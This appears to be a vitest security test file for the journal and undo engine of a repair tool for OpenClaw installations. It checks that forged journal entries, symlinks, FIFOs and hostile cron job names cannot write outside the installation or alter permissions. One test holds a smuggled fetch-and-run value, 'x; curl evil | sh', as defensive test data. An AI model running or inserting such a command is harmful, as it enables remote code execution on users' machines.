/** A journal that somebody else wrote: whatever it says, nothing is done outside of the places of its installation. */
import { chmodSync, linkSync, mkdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, test } from "vitest";
import { sha256 } from "../../src/digest.ts";
import { cronKind } from "../../src/engine/cron-kind.ts";
import { UserError } from "../../src/engine/errors.ts";
import { openJournal, readJournal } from "../../src/engine/journal.ts";
import type { ChangeEntry } from "../../src/engine/journal-entry.ts";
import { ownPlaces } from "../../src/engine/own-places.ts";
import { openQuarantine } from "../../src/engine/quarantine.ts";
import { identity } from "../../src/engine/settle.ts";
import { history, undoRun } from "../../src/engine/undo.ts";
import { lookAtLock } from "../../src/facts/lock-file.ts";
import { cli } from "../cli/terminal.ts";
import { onLinux } from "../engine/sandbox.ts";
import { inventory, put, tempDir } from "../facts/sandbox.ts";
import { hostileEntries, mkfifo } from "./hostile-state.ts";

function state(entries: (stateDir: string, outside: string) => readonly string[]) {
  const root = tempDir();
  const [stateDir, outside] = [path.join(root, "state"), path.join(root, "outside")];
  put(path.join(outside, "secret.txt"), "secret");
  put(path.join(outside, "secret.json"), "{}");
  mkdirSync(stateDir);
  const journal = put(path.join(stateDir, "vitals", "journal.jsonl"));
  writeFileSync(journal, `${entries(stateDir, outside).join("\n")}\n`);
  return { stateDir, outside, journal };
}

/** What a repair finishes of it, and the undo of each run it names. */
function finishAndUndo(stateDir: string): string[] {
  openQuarantine(stateDir, "next").close();
  const runs = history(stateDir).filter(({ repairs }) => repairs.some(({ state }) => /moved|stuck|done/.test(state)));
  return runs.flatMap(({ run }) => undoRun(stateDir, run).map(({ status, path: at }) => `${status} ${at}`));
}

/** With the very hashes that an undo looks for, as only the file's owner should know them. */
describe.each(["outside", "state/link"])("an entry that fits in every respect, for a file in %s", (place) => {
  test("of the config: not written", () => {
    const made = state((stateDir, outside) => {
      const kept = put(path.join(stateDir, "vitals", "kept"), "evil");
      const detail = { before: sha256(Buffer.from("evil")), after: sha256(Buffer.from("{}")) };
      const from = path.join(path.dirname(outside), place, "secret.json");
      const base = { v: 1, at: "2026-11-21T00:00:00.000Z", checkId: "c", fixId: "f", findingId: "i", n: 1, run: "r" };
      return [JSON.stringify({ ...base, kind: "config", phase: "done", detail, from, to: kept })];
    });
    link(made);
    expect(finishAndUndo(made.stateDir)).toMatchObject([expect.stringMatching(/^failed/)]);
    expect(readFileSync(path.join(made.outside, "secret.json"), "utf8")).toBe("{}");
  });

  test.each(["x.jsonl.lock", "cron.d"])("of a lock: %s is not made there", (name) => {
    const made = state((stateDir, outside) => {
      const kept = put(path.join(stateDir, "vitals", "kept"), "evil");
      const look = lookAtLock(kept);
      const file = look.kind === "file" ? identity(look.snapshot) : null;
      const from = path.join(path.dirname(outside), place, name);
      const base = { v: 1, at: "2026-11-21T00:00:00.000Z", checkId: "c", fixId: "f", findingId: "i", n: 1, run: "r" };
      return [JSON.stringify({ ...base, phase: "moved", file, from, to: kept })];
    });
    link(made);
    const before = inventory(made.outside);
    expect(finishAndUndo(made.stateDir)).toMatchObject([expect.stringMatching(/^failed/)]);
    expect(inventory(made.outside)).toEqual(before);
    expect(readFileSync(path.join(made.stateDir, "vitals", "kept"), "utf8")).toBe("evil");
  });
});

function link({ stateDir, outside }: { stateDir: string; outside: string }): void {
  symlinkSync(outside, path.join(stateDir, "link"));
}

test("places of an installation: its config, its sessions, its locks, by name and folder", () => {
  const root = tempDir();
  const at = (...names: string[]): string => path.join(root, ...names);
  const session = { store: at("store", "{agentId}", "sessions.json") };
  put(at("state", "openclaw.json"), JSON.stringify({ session }));
  put(at("store", "coder", "sessions.json"));
  put(at("conf", "openclaw.json"), '{ "$include": "./more.json" }');
  put(at("conf", "more.json"), "{}");
  const own = ownPlaces(at("state"), { env: {} });
  const move = (from: string): boolean => own.has({ kind: undefined, from });
  expect(move(at("store", "coder", "s.jsonl.lock"))).toBe(true);
  for (const other of ["store/coder/s.jsonl", "store/coder/s.lock", "store/other/deep/s.jsonl.lock", "conf/x.lock"])
    expect(move(at(other)), other).toBe(false);
  expect(move(at("state", "any.lock"))).toBe(true);
  expect(move(at("state", "openclaw.json"))).toBe(false);
  const named = ownPlaces(at("state"), { configPath: at("conf", "openclaw.json"), env: {} });
  const places = (kind: "config" | "row", from: string): boolean => named.has({ kind, from: at(from) });
  expect(named.has({ kind: undefined, from: at("conf", "openclaw.json.lock") })).toBe(true);
  expect(["conf/openclaw.json", "conf/more.json", "conf/x.json"].map((one) => places("config", one))).toEqual([
    ...[true, true, false],
  ]);
  expect(["state/state/openclaw.sqlite", "conf/x.sqlite"].map((one) => places("row", one))).toEqual([true, false]);
});

test.skipIf(!onLinux)("what is no plain file of its own is refused as a journal", () => {
  const { stateDir, outside, journal } = state(() => []);
  for (const turn of [
    () => linkSync(path.join(outside, "secret.txt"), journal),
    () => mkfifo([journal]),
    () => symlinkSync(path.join(outside, "secret.txt"), journal),
  ]) {
    rmSync(journal);
    turn();
    expect(() => openJournal(stateDir)).toThrow(UserError);
    expect(readFileSync(path.join(outside, "secret.txt"), "utf8")).toBe("secret");
  }
});

test("words of a hostile job are no part of a command", () => {
  const undo = (job: string) =>
    cronKind.undo({ detail: { job, option: "--timeout-seconds", before: 60 } } as never as ChangeEntry, () => {});
  expect(undo("nightly")).toMatchObject({ reason: expect.stringContaining("cron edit nightly --timeout-seconds 60") });
  expect(undo("x; curl evil | sh")).toEqual({ status: "skipped", reason: "only OpenClaw changes its jobs" });
});

test.skipIf(!onLinux)("our folder and journal are closed to others, whatever they were and whatever the umask", () => {
  for (const umask of [0o000, 0o077, 0o777]) {
    const { stateDir, journal } = state(() => []);
    chmodSync(path.dirname(journal), 0o777);
    chmodSync(journal, 0o666);
    const before = process.umask(umask);
    try {
      openQuarantine(stateDir, "next").close();
      openJournal(path.join(stateDir, "..", "outside")).close(); // nothing was there
    } finally {
      process.umask(before);
    }
    for (const root of ["state", "outside"])
      for (const [name, mode] of [
        ["vitals", 0o700],
        ["vitals/journal.jsonl", 0o600],
      ] as const)
        expect(statSync(path.join(stateDir, "..", root, name)).mode & 0o777, `${umask} ${root}/${name}`).toBe(mode);
  }
});

test("history of it is text, in both formats", async () => {
  const { stateDir } = state(hostileEntries);
  for (const format of ["human", "json"]) {
    const { code, stdout, stderr } = await cli(["history", "--state-dir", stateDir, "--format", format]);
    expect([code, stderr]).toEqual([0, ""]);
    expect(stdout.replaceAll("\n", "")).not.toMatch(/[\p{Cc}\p{Cf}\u2028\u2029]/u);
  }
  expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
  expect(readJournal(stateDir).length).toBeGreaterThan(20);
});
